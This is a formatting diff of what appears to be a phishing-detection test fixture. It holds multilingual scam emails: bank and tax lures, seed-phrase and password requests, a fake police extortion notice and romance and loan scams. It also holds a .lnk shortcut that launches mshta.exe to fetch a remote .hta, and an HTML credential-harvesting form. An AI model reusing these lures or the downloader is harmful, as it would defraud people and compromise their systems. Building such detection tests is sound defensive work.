+          '',
+          'Si le interesa, escriba "trabajo" a nuestra coordinadora por WhatsApp: +34 631 48 27 90 (solo mensajes). Plazas limitadas.',
+          '',
+          'Un saludo,',
+          'Departamento de Selección',
+        ].join('\n'),
+      ),
     }),
   },
   {
@@ -687,13 +782,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       messageId: '691ad4c2.5e1c.4a9b@construccionesbermudez.es',
       dkim: ['construccionesbermudez.es:default'],
       relay: 'cp-web41.dinahosting.com [192.0.2.41]',
-      body: document([
-        'Estimado usuario elena.prieto@gestoriaprieto.es,',
-        'Su buzón de correo ha alcanzado el 98 % de su capacidad. Los mensajes entrantes se están reteniendo y se eliminarán en 48 horas.',
-        'Para liberar espacio y recibir sus mensajes pendientes, verifique su cuenta de correo a continuación.',
-        { button: 'Verificar cuenta', href: 'https://sites.google.com/view/webmail-verificacion-es/inicio' },
-        { small: 'Administración del servidor de correo. Mensaje generado automáticamente.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          'Estimado usuario elena.prieto@gestoriaprieto.es,',
+          'Su buzón de correo ha alcanzado el 98 % de su capacidad. Los mensajes entrantes se están reteniendo y se eliminarán en 48 horas.',
+          'Para liberar espacio y recibir sus mensajes pendientes, verifique su cuenta de correo a continuación.',
+          { button: 'Verificar cuenta', href: 'https://sites.google.com/view/webmail-verificacion-es/inicio' },
+          { small: 'Administración del servidor de correo. Mensaje generado automáticamente.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
   {
@@ -710,14 +808,24 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['binance-retiradas.com:s1'],
       relay: 'smtp.binance-retiradas.com [198.51.100.88]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Retirada en curso' },
-        'Ha solicitado una retirada de 1.245,00 USDT desde su cuenta. Sus fondos están en camino.',
-        { rows: [['Importe', '1.245,00 USDT'], ['Red', 'TRC20'], ['Dirección', 'TQ8m4Kx2Lz9Nw7Rb3Vt1Yc5Hd6Fs0Ay2G'], ['Fecha', '2025-09-28 03:11:42 (UTC)']] },
-        'Si no ha realizado esta operación, desactive su cuenta inmediatamente desde el siguiente enlace para detener la retirada.',
-        { button: 'Desactivar mi cuenta', href: 'https://binance-retiradas.com/es/desactivar?ref=WD81247' },
-        { small: 'Binance nunca le pedirá su contraseña por teléfono. Este es un correo automático.' },
-      ], { lang: 'es' }),
+      body: document(
+        [
+          { heading: 'Retirada en curso' },
+          'Ha solicitado una retirada de 1.245,00 USDT desde su cuenta. Sus fondos están en camino.',
+          {
+            rows: [
+              ['Importe', '1.245,00 USDT'],
+              ['Red', 'TRC20'],
+              ['Dirección', 'TQ8m4Kx2Lz9Nw7Rb3Vt1Yc5Hd6Fs0Ay2G'],
+              ['Fecha', '2025-09-28 03:11:42 (UTC)'],
+            ],
+          },
+          'Si no ha realizado esta operación, desactive su cuenta inmediatamente desde el siguiente enlace para detener la retirada.',
+          { button: 'Desactivar mi cuenta', href: 'https://binance-retiradas.com/es/desactivar?ref=WD81247' },
+          { small: 'Binance nunca le pedirá su contraseña por teléfono. Este es un correo automático.' },
+        ],
+        { lang: 'es' },
+      ),
     }),
   },
 
@@ -738,13 +846,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['pje-tjsp-intimacoes.com:default'],
       relay: 'mail.pje-tjsp-intimacoes.com [203.0.113.66]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'PODER JUDICIÁRIO – TRIBUNAL DE JUSTIÇA DO ESTADO DE SÃO PAULO' },
-        'Processo nº 1004821-37.2025.8.26.0100 – Ação de Cobrança',
-        'Fica Vossa Senhoria INTIMADO(A) a comparecer ou a se manifestar no prazo de 5 (cinco) dias úteis, sob pena de revelia e de bloqueio de bens via SISBAJUD.',
-        { button: 'Visualizar Mandado de Intimação', href: 'https://storage.googleapis.com/pje-mandados-2025/Mandado_Intimacao_1004821.html' },
-        { small: 'Processo Judicial Eletrônico – PJe. Documento assinado eletronicamente. Não responda a este e-mail.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'PODER JUDICIÁRIO – TRIBUNAL DE JUSTIÇA DO ESTADO DE SÃO PAULO' },
+          'Processo nº 1004821-37.2025.8.26.0100 – Ação de Cobrança',
+          'Fica Vossa Senhoria INTIMADO(A) a comparecer ou a se manifestar no prazo de 5 (cinco) dias úteis, sob pena de revelia e de bloqueio de bens via SISBAJUD.',
+          { button: 'Visualizar Mandado de Intimação', href: 'https://storage.googleapis.com/pje-mandados-2025/Mandado_Intimacao_1004821.html' },
+          { small: 'Processo Judicial Eletrônico – PJe. Documento assinado eletronicamente. Não responda a este e-mail.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -761,14 +872,17 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['receita-restituicao.online:mail'],
       relay: 'smtp.receita-restituicao.online [198.51.100.31]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Restituição retida' },
-        'Prezado(a) contribuinte,',
-        'Sua restituição do Imposto de Renda 2025, no valor de R$ 1.482,37, foi incluída no lote de julho, mas está retida por divergência nos dados bancários informados na declaração.',
-        'Para liberar o crédito, confirme seus dados bancários e sua chave Pix em até 48 horas. Após o prazo, o valor retorna ao Tesouro Nacional.',
-        { button: 'Liberar restituição', href: 'https://receita-restituicao.online/consulta/liberar' },
-        { small: 'Secretaria Especial da Receita Federal do Brasil.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Restituição retida' },
+          'Prezado(a) contribuinte,',
+          'Sua restituição do Imposto de Renda 2025, no valor de R$ 1.482,37, foi incluída no lote de julho, mas está retida por divergência nos dados bancários informados na declaração.',
+          'Para liberar o crédito, confirme seus dados bancários e sua chave Pix em até 48 horas. Após o prazo, o valor retorna ao Tesouro Nacional.',
+          { button: 'Liberar restituição', href: 'https://receita-restituicao.online/consulta/liberar' },
+          { small: 'Secretaria Especial da Receita Federal do Brasil.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -785,13 +899,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['bcb-pix-seguranca.com:s1'],
       relay: 'mx.bcb-pix-seguranca.com [203.0.113.97]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Pix recebido – aguardando confirmação' },
-        'Olá, Roberto. Você recebeu uma transferência Pix de R$ 1.250,00, mas, por segurança, o valor foi retido pelo Mecanismo Especial de Devolução (MED).',
-        'Para liberar o crédito na sua conta, confirme sua chave Pix, a senha do aplicativo do seu banco e o código de segurança recebido por SMS.',
-        { button: 'Confirmar e receber', href: 'https://bcb-pix-seguranca.com/liberar?tx=E0000000020250822' },
-        { small: 'Banco Central do Brasil – Pix. Não compartilhe esta mensagem.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Pix recebido – aguardando confirmação' },
+          'Olá, Roberto. Você recebeu uma transferência Pix de R$ 1.250,00, mas, por segurança, o valor foi retido pelo Mecanismo Especial de Devolução (MED).',
+          'Para liberar o crédito na sua conta, confirme sua chave Pix, a senha do aplicativo do seu banco e o código de segurança recebido por SMS.',
+          { button: 'Confirmar e receber', href: 'https://bcb-pix-seguranca.com/liberar?tx=E0000000020250822' },
+          { small: 'Banco Central do Brasil – Pix. Não compartilhe esta mensagem.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -808,13 +925,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['bradesco-chave-seguranca.com:mail'],
       relay: 'mta.bradesco-chave-seguranca.com [192.0.2.148]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Prezado(a) cliente,',
-        'Identificamos que a sua Chave de Segurança Bradesco está desatualizada e foi desabilitada. A partir de hoje, transações por Pix, TED e pagamentos estarão bloqueadas até a reativação.',
-        'Reative agora informando agência, conta e senha de 4 dígitos do cartão.',
-        { button: 'Reativar dispositivo', href: 'https://bradesco-chave-seguranca.com/reativar' },
-        { small: 'Banco Bradesco S.A. – Cidade de Deus, Osasco/SP.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          'Prezado(a) cliente,',
+          'Identificamos que a sua Chave de Segurança Bradesco está desatualizada e foi desabilitada. A partir de hoje, transações por Pix, TED e pagamentos estarão bloqueadas até a reativação.',
+          'Reative agora informando agência, conta e senha de 4 dígitos do cartão.',
+          { button: 'Reativar dispositivo', href: 'https://bradesco-chave-seguranca.com/reativar' },
+          { small: 'Banco Bradesco S.A. – Cidade de Deus, Osasco/SP.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -831,14 +951,17 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['trustwallet-validacao.app:mail'],
       relay: 'smtp.trustwallet-validacao.app [203.0.113.177]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Validação de carteira' },
-        'Olá,',
-        'Por exigência da nova regulamentação de criptoativos do Banco Central, todas as carteiras devem ser validadas até 30/06/2025. Carteiras não validadas terão os saques suspensos.',
-        'Para validar, importe sua carteira informando as 12 palavras da sua frase de recuperação. O processo leva menos de um minuto.',
-        { button: 'Validar minha carteira', href: 'https://trustwallet-validacao.app/validar' },
-        { small: '© 2025 Trust Wallet. Todos os direitos reservados.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Validação de carteira' },
+          'Olá,',
+          'Por exigência da nova regulamentação de criptoativos do Banco Central, todas as carteiras devem ser validadas até 30/06/2025. Carteiras não validadas terão os saques suspensos.',
+          'Para validar, importe sua carteira informando as 12 palavras da sua frase de recuperação. O processo leva menos de um minuto.',
+          { button: 'Validar minha carteira', href: 'https://trustwallet-validacao.app/validar' },
+          { small: '© 2025 Trust Wallet. Todos os direitos reservados.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -856,13 +979,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       returnPath: 'bounces+51127734-a1c2-eduardo=pachecoconsultoria.com.br@em3311.clicksign-documentos.com',
       relay: 'o3.ptr3311.clicksign-documentos.com [149.72.97.33]',
       headers: ['X-SG-EID: u001.Zr5Lm2Qx8Tn1Vb4Kc7Wp0Hd3Fj6As9Gy'],
-      body: document([
-        { heading: 'Você tem um documento para assinar' },
-        'Departamento Jurídico enviou o documento "Aditivo_Contratual_2025.pdf" para você assinar.',
-        'Mensagem: "Eduardo, segue o aditivo com os novos valores. Precisamos da assinatura ainda hoje para liberar o pagamento."',
-        { button: 'Visualizar para assinar', href: 'https://u51127734.ct.sendgrid.net/ls/click?upn=u001.Pk2Rz8Lm5Nw1Vb7Xc3Mp9T-2Fq4' },
-        { small: 'Clicksign – Assinaturas eletrônicas com validade jurídica.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Você tem um documento para assinar' },
+          'Departamento Jurídico enviou o documento "Aditivo_Contratual_2025.pdf" para você assinar.',
+          'Mensagem: "Eduardo, segue o aditivo com os novos valores. Precisamos da assinatura ainda hoje para liberar o pagamento."',
+          { button: 'Visualizar para assinar', href: 'https://u51127734.ct.sendgrid.net/ls/click?upn=u001.Pk2Rz8Lm5Nw1Vb7Xc3Mp9T-2Fq4' },
+          { small: 'Clicksign – Assinaturas eletrônicas com validade jurídica.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -897,8 +1023,14 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['distribuidora-santaclara.com.br:default'],
       relay: 'mail.distribuidora-santaclara.com.br [203.0.113.208]',
       body: multipart('mixed', [
-        plain('Prezados,\n\nSegue em anexo a 2ª via da fatura 2025/8841, vencida em 05/11. Pedimos a gentileza de regularizar para evitar o protesto.\n\nAtenciosamente,\nSetor de Cobrança'),
-        attachment('Fatura_2025-8841.zip', 'application/zip', zip({ 'Fatura_2025-8841.pdf.lnk': shortcut('..\\..\\..\\Windows\\System32\\mshta.exe', 'https://cdn-fatura.example.net/f.hta') })),
+        plain(
+          'Prezados,\n\nSegue em anexo a 2ª via da fatura 2025/8841, vencida em 05/11. Pedimos a gentileza de regularizar para evitar o protesto.\n\nAtenciosamente,\nSetor de Cobrança',
+        ),
+        attachment(
+          'Fatura_2025-8841.zip',
+          'application/zip',
+          zip({ 'Fatura_2025-8841.pdf.lnk': shortcut('..\\..\\..\\Windows\\System32\\mshta.exe', 'https://cdn-fatura.example.net/f.hta') }),
+        ),
       ]),
     }),
   },
@@ -915,20 +1047,22 @@ export const MORE_CASES: readonly PhishingCase[] = [
       messageId: 'PAXP193MB1733E4A2B5C6D7E8F9A0B1C2D3E4F@PAXP193MB1733.EURP193.PROD.OUTLOOK.COM',
       dkim: ['outlook.com:selector1'],
       relay: 'EUR03-DBA-obe.outbound.protection.outlook.com [40.92.59.44]',
-      body: plain([
-        'Minha querida Vera,',
-        '',
-        'Cada dia que passa tenho mais certeza de que Deus colocou você no meu caminho. Terminei meu contrato na plataforma e já estou em Londres, esperando o voo para São Paulo para finalmente te conhecer.',
-        '',
-        'Mas aconteceu um problema: a alfândega reteve minha bagagem com o meu ouro e os documentos, e só liberam depois do pagamento de uma taxa de R$ 6.800. Meus cartões estão bloqueados aqui na Inglaterra e não tenho mais ninguém a quem pedir.',
-        '',
-        'Você poderia fazer um Pix para o despachante? Assim que chegar aí eu te devolvo tudo em dobro. Não conte para ninguém, eles não entenderiam o nosso amor.',
-        '',
-        'Chave Pix do despachante: despachante.liberacao@gmail.com',
-        '',
-        'Com todo o meu amor,',
-        'Richard',
-      ].join('\n')),
+      body: plain(
+        [
+          'Minha querida Vera,',
+          '',
+          'Cada dia que passa tenho mais certeza de que Deus colocou você no meu caminho. Terminei meu contrato na plataforma e já estou em Londres, esperando o voo para São Paulo para finalmente te conhecer.',
+          '',
+          'Mas aconteceu um problema: a alfândega reteve minha bagagem com o meu ouro e os documentos, e só liberam depois do pagamento de uma taxa de R$ 6.800. Meus cartões estão bloqueados aqui na Inglaterra e não tenho mais ninguém a quem pedir.',
+          '',
+          'Você poderia fazer um Pix para o despachante? Assim que chegar aí eu te devolvo tudo em dobro. Não conte para ninguém, eles não entenderiam o nosso amor.',
+          '',
+          'Chave Pix do despachante: despachante.liberacao@gmail.com',
+          '',
+          'Com todo o meu amor,',
+          'Richard',
+        ].join('\n'),
+      ),
     }),
   },
   {
@@ -953,13 +1087,19 @@ export const MORE_CASES: readonly PhishingCase[] = [
         'X-mid: YWRyaWFuYS5zaWx2YS44NUBnbWFpbC5jb20gLCBjNDcgLCBtNjEgLCBzMTAwMTE4OA',
         'Feedback-ID: 1001188:c47:m61:ActiveCampaign',
       ],
-      body: document([
-        { heading: 'Saque Extraordinário do FGTS' },
-        'Olá, trabalhador(a)!',
-        'Você tem R$ 1.412,00 disponíveis para saque nas contas do FGTS. Para receber, confirme seus dados e a conta para crédito até 05/11/2025. Após essa data, o valor volta para a conta vinculada.',
-        { button: 'Consultar e sacar', href: activeCampaignLink('autoescolanovaera', 'https://fgts-saque-caixa.com.br/consulta?cpf=') },
-        { small: 'Você está recebendo este e-mail porque se cadastrou na Autoescola Nova Era. Rua Sete de Setembro, 410 – Campinas/SP. [Cancelar inscrição](https://autoescolanovaera.activehosted.com/proc.php?nl=1&c=47&m=61&s=9f2e7a1c3b8d4e6f0a5b2c9d7e1f3a4b&act=unsub)' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Saque Extraordinário do FGTS' },
+          'Olá, trabalhador(a)!',
+          'Você tem R$ 1.412,00 disponíveis para saque nas contas do FGTS. Para receber, confirme seus dados e a conta para crédito até 05/11/2025. Após essa data, o valor volta para a conta vinculada.',
+          { button: 'Consultar e sacar', href: activeCampaignLink('autoescolanovaera', 'https://fgts-saque-caixa.com.br/consulta?cpf=') },
+          {
+            small:
+              'Você está recebendo este e-mail porque se cadastrou na Autoescola Nova Era. Rua Sete de Setembro, 410 – Campinas/SP. [Cancelar inscrição](https://autoescolanovaera.activehosted.com/proc.php?nl=1&c=47&m=61&s=9f2e7a1c3b8d4e6f0a5b2c9d7e1f3a4b&act=unsub)',
+          },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
 
@@ -979,18 +1119,24 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['sapo.pt:sapo2024'],
       relay: 'smtp.sapo.pt [213.13.146.73]',
       body: multipart('mixed', [
-        plain('Exmo.(a) Senhor(a),\n\nSegue em anexo a convocatória referente ao processo-crime acima indicado. Tem 48 horas para apresentar a sua justificação por escrito.\n\nUnidade Nacional de Combate ao Cibercrime'),
-        attachment('Convocatoria_PJ_1187-25.pdf', 'application/pdf', textPdf([
-          'REPUBLICA PORTUGUESA - POLICIA JUDICIARIA',
-          'UNIDADE NACIONAL DE COMBATE AO CIBERCRIME E A CRIMINALIDADE TECNOLOGICA',
-          'CONVOCATORIA',
-          'Na sequencia de uma ciberinfiltracao autorizada pelo Ministerio Publico, foram detetados',
-          'acessos do seu computador a conteudos de pornografia infantil e exibicionismo.',
-          'Dispoe de 48 horas para enviar a sua justificacao para convocatoria.unc3t.pj@mail.com.',
-          'Na ausencia de resposta, o processo sera remetido ao Tribunal e sera emitido',
-          'um mandado de detencao, com divulgacao do seu nome na comunicacao social.',
-          'O Diretor Nacional',
-        ])),
+        plain(
+          'Exmo.(a) Senhor(a),\n\nSegue em anexo a convocatória referente ao processo-crime acima indicado. Tem 48 horas para apresentar a sua justificação por escrito.\n\nUnidade Nacional de Combate ao Cibercrime',
+        ),
+        attachment(
+          'Convocatoria_PJ_1187-25.pdf',
+          'application/pdf',
+          textPdf([
+            'REPUBLICA PORTUGUESA - POLICIA JUDICIARIA',
+            'UNIDADE NACIONAL DE COMBATE AO CIBERCRIME E A CRIMINALIDADE TECNOLOGICA',
+            'CONVOCATORIA',
+            'Na sequencia de uma ciberinfiltracao autorizada pelo Ministerio Publico, foram detetados',
+            'acessos do seu computador a conteudos de pornografia infantil e exibicionismo.',
+            'Dispoe de 48 horas para enviar a sua justificacao para convocatoria.unc3t.pj@mail.com.',
+            'Na ausencia de resposta, o processo sera remetido ao Tribunal e sera emitido',
+            'um mandado de detencao, com divulgacao do seu nome na comunicacao social.',
+            'O Diretor Nacional',
+          ]),
+        ),
       ]),
     }),
   },
@@ -1008,14 +1154,17 @@ export const MORE_CASES: readonly PhishingCase[] = [
       returnPath: 'apache@vps-pt-19.example.net',
       relay: 'vps-pt-19.example.net [192.0.2.19]',
       auth: { dkim: 'none', spf: 'fail', dmarc: 'fail' },
-      body: document([
-        { heading: 'Processo de Execução Fiscal' },
-        'Exmo.(a) Contribuinte,',
-        'Fica citado(a) de que foi instaurado contra si o processo de execução fiscal n.º 3514202501048813, por dívida de IUC não paga, no montante de 148,62 €.',
-        'Dispõe de 5 dias para efetuar o pagamento. Findo este prazo, será ordenada a penhora de saldos bancários e de vencimentos.',
-        { button: 'Consultar e pagar', href: 'https://financas-execucao-fiscal.com/pt/pagamento?proc=3514202501048813' },
-        { small: 'Autoridade Tributária e Aduaneira. Esta mensagem foi gerada automaticamente.' },
-      ], { lang: 'pt-PT' }),
+      body: document(
+        [
+          { heading: 'Processo de Execução Fiscal' },
+          'Exmo.(a) Contribuinte,',
+          'Fica citado(a) de que foi instaurado contra si o processo de execução fiscal n.º 3514202501048813, por dívida de IUC não paga, no montante de 148,62 €.',
+          'Dispõe de 5 dias para efetuar o pagamento. Findo este prazo, será ordenada a penhora de saldos bancários e de vencimentos.',
+          { button: 'Consultar e pagar', href: 'https://financas-execucao-fiscal.com/pt/pagamento?proc=3514202501048813' },
+          { small: 'Autoridade Tributária e Aduaneira. Esta mensagem foi gerada automaticamente.' },
+        ],
+        { lang: 'pt-PT' },
+      ),
     }),
   },
   {
@@ -1032,13 +1181,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['millennium-seguranca.pt.com:mail'],
       relay: 'mail.millennium-seguranca.pt.com [203.0.113.129]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Caro(a) Cliente,',
-        'Foi associado um novo dispositivo (iPhone 15) à app Millennium em 09/10/2025, às 23:09.',
-        'Se não reconhece esta associação, cancele-a de imediato. Caso contrário, o novo dispositivo poderá autorizar transferências e pagamentos MB WAY a partir da sua conta.',
-        { button: 'Cancelar associação', href: 'https://millennium-seguranca.pt.com/cancelar?d=88213' },
-        { small: 'Banco Comercial Português, S.A. Nunca lhe pediremos códigos por e-mail.' },
-      ], { lang: 'pt-PT' }),
+      body: document(
+        [
+          'Caro(a) Cliente,',
+          'Foi associado um novo dispositivo (iPhone 15) à app Millennium em 09/10/2025, às 23:09.',
+          'Se não reconhece esta associação, cancele-a de imediato. Caso contrário, o novo dispositivo poderá autorizar transferências e pagamentos MB WAY a partir da sua conta.',
+          { button: 'Cancelar associação', href: 'https://millennium-seguranca.pt.com/cancelar?d=88213' },
+          { small: 'Banco Comercial Português, S.A. Nunca lhe pediremos códigos por e-mail.' },
+        ],
+        { lang: 'pt-PT' },
+      ),
     }),
   },
   {
@@ -1056,18 +1208,31 @@ export const MORE_CASES: readonly PhishingCase[] = [
       relay: 'server14.ptisp.pt [192.0.2.114]',
       auth: { dmarc: 'none' },
       body: multipart('mixed', [
-        document([
-          { heading: 'Tem uma nova mensagem de voz' },
-          { rows: [['De', '+351 21 *** **47'], ['Duração', '0:52'], ['Caixa', 'catarina.lopes@imobiliariaribeira.pt']] },
-          'Abra o anexo para ouvir a mensagem.',
-          { small: 'Serviço de Correio de Voz NOS Empresas' },
-        ], { lang: 'pt-PT' }),
-        attachment('Mensagem_Voz_052s.htm', 'text/html', [
-          '<!DOCTYPE html><html lang="pt"><head><meta charset="utf-8"><title>Correio de Voz</title></head>',
-          '<body style="font-family:Arial"><h3>Para ouvir a mensagem, confirme a sua conta de e-mail</h3>',
-          '<form method="POST" action="https://voz-nos-empresas.pages.dev/ok.php"><input type="email" name="u" value="catarina.lopes@imobiliariaribeira.pt"><input type="password" name="p" placeholder="Palavra-passe"><button>Ouvir</button></form>',
-          '</body></html>',
-        ].join('\n')),
+        document(
+          [
+            { heading: 'Tem uma nova mensagem de voz' },
+            {
+              rows: [
+                ['De', '+351 21 *** **47'],
+                ['Duração', '0:52'],
+                ['Caixa', 'catarina.lopes@imobiliariaribeira.pt'],
+              ],
+            },
+            'Abra o anexo para ouvir a mensagem.',
+            { small: 'Serviço de Correio de Voz NOS Empresas' },
+          ],
+          { lang: 'pt-PT' },
+        ),
+        attachment(
+          'Mensagem_Voz_052s.htm',
+          'text/html',
+          [
+            '<!DOCTYPE html><html lang="pt"><head><meta charset="utf-8"><title>Correio de Voz</title></head>',
+            '<body style="font-family:Arial"><h3>Para ouvir a mensagem, confirme a sua conta de e-mail</h3>',
+            '<form method="POST" action="https://voz-nos-empresas.pages.dev/ok.php"><input type="email" name="u" value="catarina.lopes@imobiliariaribeira.pt"><input type="password" name="p" placeholder="Palavra-passe"><button>Ouvir</button></form>',
+            '</body></html>',
+          ].join('\n'),
+        ),
       ]),
     }),
   },
@@ -1085,19 +1250,21 @@ export const MORE_CASES: readonly PhishingCase[] = [
       messageId: 'CAMq9Lx3Rz7Nw2Vb5Xc8Mp1Hd4Fs6Ay0Ge3Ko5Mn2Tq7Zx4@mail.gmail.com',
       dkim: ['gmail.com:20230601'],
       relay: 'mail-sor-f41.google.com [209.85.220.41]',
-      body: gmailBody([
-        'Caro Paulo,',
-        '',
-        'Tenho o prazer de informar que o seu pedido de empréstimo de 15.000 € a 2 % ao ano, a 60 meses, foi aprovado pelo nosso notário.',
-        '',
-        'Antes da transferência para a sua conta, é necessário pagar os custos de abertura do processo e do seguro, no valor de 350 €, por transferência para o IBAN LT72 3250 0214 7788 1093 em nome do nosso notário. Logo que recebermos o comprovativo, os 15.000 € são transferidos em 24 horas.',
-        '',
-        'Envie também cópia do cartão de cidadão e do último recibo de vencimento.',
-        '',
-        'Cumprimentos,',
-        'Manuel Antunes',
-        'Crédito entre particulares',
-      ].join('\n')),
+      body: gmailBody(
+        [
+          'Caro Paulo,',
+          '',
+          'Tenho o prazer de informar que o seu pedido de empréstimo de 15.000 € a 2 % ao ano, a 60 meses, foi aprovado pelo nosso notário.',
+          '',
+          'Antes da transferência para a sua conta, é necessário pagar os custos de abertura do processo e do seguro, no valor de 350 €, por transferência para o IBAN LT72 3250 0214 7788 1093 em nome do nosso notário. Logo que recebermos o comprovativo, os 15.000 € são transferidos em 24 horas.',
+          '',
+          'Envie também cópia do cartão de cidadão e do último recibo de vencimento.',
+          '',
+          'Cumprimentos,',
+          'Manuel Antunes',
+          'Crédito entre particulares',
+        ].join('\n'),
+      ),
     }),
   },
 
@@ -1116,13 +1283,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['commerzbank-phototan-service.de:mail'],
       relay: 'mail.commerzbank-phototan-service.de [203.0.113.71]',
       auth: { dmarc: 'none' },
-      body: document([
-        'Sehr geehrter Kunde,',
-        'am 14.01.2025 um 20:29 Uhr wurde ein neues Gerät (Google Pixel 8) für das photoTAN-Verfahren Ihres Kontos registriert.',
-        'Falls Sie das nicht waren, sperren Sie das Gerät bitte sofort. Andernfalls kann das neue Gerät ab morgen Überweisungen freigeben.',
-        { button: 'Gerät sperren', href: 'https://commerzbank-phototan-service.de/sperren?id=418827' },
-        { small: 'Commerzbank AG, Kaiserplatz, 60311 Frankfurt am Main. Dies ist eine automatisch erzeugte E-Mail.' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          'Sehr geehrter Kunde,',
+          'am 14.01.2025 um 20:29 Uhr wurde ein neues Gerät (Google Pixel 8) für das photoTAN-Verfahren Ihres Kontos registriert.',
+          'Falls Sie das nicht waren, sperren Sie das Gerät bitte sofort. Andernfalls kann das neue Gerät ab morgen Überweisungen freigeben.',
+          { button: 'Gerät sperren', href: 'https://commerzbank-phototan-service.de/sperren?id=418827' },
+          { small: 'Commerzbank AG, Kaiserplatz, 60311 Frankfurt am Main. Dies ist eine automatisch erzeugte E-Mail.' },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -1139,13 +1309,16 @@ export const MORE_CASES: readonly PhishingCase[] = [
       returnPath: 'nobody@mailer-77.example.net',
       relay: 'mailer-77.example.net [198.51.100.77]',
       auth: { dkim: 'none', spf: 'softfail', dmarc: 'fail' },
-      body: document([
-        { heading: 'Benachrichtigung über eine Steuererstattung' },
-        'Sehr geehrte Steuerzahlerin, sehr geehrter Steuerzahler,',
-        'nach der letzten Berechnung Ihrer jährlichen steuerlichen Aktivitäten haben Sie Anspruch auf eine Steuererstattung in Höhe von 416,50 €. Bitte reichen Sie den Erstattungsantrag innerhalb von 5 Werktagen ein und bestätigen Sie Ihre Bankverbindung.',
-        { button: 'Erstattung beantragen', href: 'https://bzst-erstattung.pages-de.workers.dev/antrag' },
-        { small: 'Bundeszentralamt für Steuern, An der Küppe 1, 53225 Bonn.' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          { heading: 'Benachrichtigung über eine Steuererstattung' },
+          'Sehr geehrte Steuerzahlerin, sehr geehrter Steuerzahler,',
+          'nach der letzten Berechnung Ihrer jährlichen steuerlichen Aktivitäten haben Sie Anspruch auf eine Steuererstattung in Höhe von 416,50 €. Bitte reichen Sie den Erstattungsantrag innerhalb von 5 Werktagen ein und bestätigen Sie Ihre Bankverbindung.',
+          { button: 'Erstattung beantragen', href: 'https://bzst-erstattung.pages-de.workers.dev/antrag' },
+          { small: 'Bundeszentralamt für Steuern, An der Küppe 1, 53225 Bonn.' },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -1162,14 +1335,17 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['zoll-paketabfertigung.info:s1'],
       relay: 'smtp.zoll-paketabfertigung.info [192.0.2.233]',
       auth: { dmarc: 'none' },
-      body: document([
-        { heading: 'Sendung beim Zoll' },
-        'Guten Tag,',
-        'Ihre Sendung aus einem Nicht-EU-Land (Sendungsnummer LX448213907CN) ist beim Zollamt eingetroffen. Für die Verzollung sind Einfuhrabgaben in Höhe von 3,95 € offen.',
-        'Bitte zahlen Sie innerhalb von 72 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.',
-        { button: 'Abgaben bezahlen', href: 'https://zoll-paketabfertigung.info/zahlung/LX448213907CN' },
-        { small: 'Generalzolldirektion – Informations- und Wissensmanagement Zoll.' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          { heading: 'Sendung beim Zoll' },
+          'Guten Tag,',
+          'Ihre Sendung aus einem Nicht-EU-Land (Sendungsnummer LX448213907CN) ist beim Zollamt eingetroffen. Für die Verzollung sind Einfuhrabgaben in Höhe von 3,95 € offen.',
+          'Bitte zahlen Sie innerhalb von 72 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.',
+          { button: 'Abgaben bezahlen', href: 'https://zoll-paketabfertigung.info/zahlung/LX448213907CN' },
+          { small: 'Generalzolldirektion – Informations- und Wissensmanagement Zoll.' },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -1188,7 +1364,9 @@ export const MORE_CASES: readonly PhishingCase[] = [
       dkim: ['gmx.net:badeba3b8450'],
       relay: 'mout.gmx.net [212.227.17.21]',
       body: multipart('mixed', [
-        plain('Sehr geehrte Damen und Herren,\n\nhiermit bewerbe ich mich auf Ihre Stelle als Bürokauffrau. Meinen Lebenslauf, das Anschreiben und meine Zeugnisse finden Sie im Anhang.\n\nÜber eine Einladung zu einem Vorstellungsgespräch freue ich mich.\n\nMit freundlichen Grüßen\nLena Schuster'),
+        plain(
